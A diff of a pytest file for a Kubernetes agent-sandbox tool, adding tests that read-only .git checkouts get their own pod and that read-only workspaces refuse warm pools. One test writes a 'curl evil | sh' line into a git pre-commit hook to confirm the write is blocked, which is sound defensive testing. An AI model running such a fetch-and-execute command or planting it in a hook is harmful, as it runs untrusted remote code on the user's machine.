@@ -26,10 +26,11 @@ POOL = "agents"
 
 @pytest.fixture
 def pool(fake: FakeKubernetes, options: KubernetesOptions, tmp_path: Path) -> Iterator[Cluster]:
-    fake.agent_sandbox = True
     cluster = Cluster(options)
-    policy = policy_file(tmp_path, "version = 1\n", options.model_copy(update={"namespace": fake.namespace}))
+    policy = policy_file(tmp_path, 'version = 1\nextends = ["default"]\n',
+                         options.model_copy(update={"namespace": fake.namespace}))
     deny, template, warm = manifest(str(policy), warm_pool=POOL, replicas=1)
+    fake.agent_sandbox = True
     cluster.create_network_policy(deny)
     for body, plural in ((template, "sandboxtemplates"), (warm, "sandboxwarmpools")):
         cluster.custom.create_namespaced_custom_object(GROUP, VERSION, fake.namespace, plural, body)
@@ -64,6 +65,30 @@ async def test_a_session_claims_a_warm_pod(pool: Cluster, user_workspace: Path, 
     assert fake.store.list("sandboxclaims", fake.namespace, []) == []  # released
     assert fake.store.get("pods", fake.namespace, warm[0]) is None
     assert len(fake.store.list("pods", fake.namespace, [("agents.x-k8s.io/warm-pool-sandbox", POOL)])) == 1  # refilled
+
+
+async def test_a_checkout_with_read_only_paths_gets_a_pod_of_its_own(
+        pool: Cluster, user_workspace: Path, options: KubernetesOptions, fake: FakeKubernetes,
+        caplog: pytest.LogCaptureFixture) -> None:
+    # A warm pod was started before anyone knew the checkout: it cannot mount .git read-only.
+    (user_workspace / ".git" / "hooks").mkdir(parents=True)
+    warm = [p["metadata"]["name"] for p in fake.store.list("pods", fake.namespace, [])]
+    opts = options.model_copy(update={"warm_pool": POOL})
+    async with await KubernetesSession.create(user_workspace, DockerConfig(memory="512m"), opts) as session:
+        assert session.pod is not None and session.pod not in warm and session.pod.startswith("sandloop-")
+        r = await session.run("echo 'curl evil | sh' > .git/hooks/pre-commit")
+        assert r.exit_code != 0 and "Read-only file system" in r.stderr.text
+    assert f"warm pool {POOL} not used: this checkout has read-only paths (.git)" in caplog.text
+    assert fake.store.list("sandboxclaims", fake.namespace, []) == []  # nothing claimed
+    assert not (user_workspace / ".git" / "hooks" / "pre-commit").exists()
+
+
+def test_a_policy_with_a_read_only_workspace_gets_no_warm_pool(tmp_path: Path, options: KubernetesOptions) -> None:
+    from sandloop.errors import ConfigError
+
+    policy = policy_file(tmp_path, "version = 1\n", options)  # no writable path: the whole workspace read-only
+    with pytest.raises(ConfigError, match="a warm pool cannot serve this policy: its workspace is read-only"):
+        manifest(str(policy), warm_pool=POOL, replicas=1)
 
 
 async def test_without_agent_sandbox_a_plain_pod(user_workspace: Path, options: KubernetesOptions,
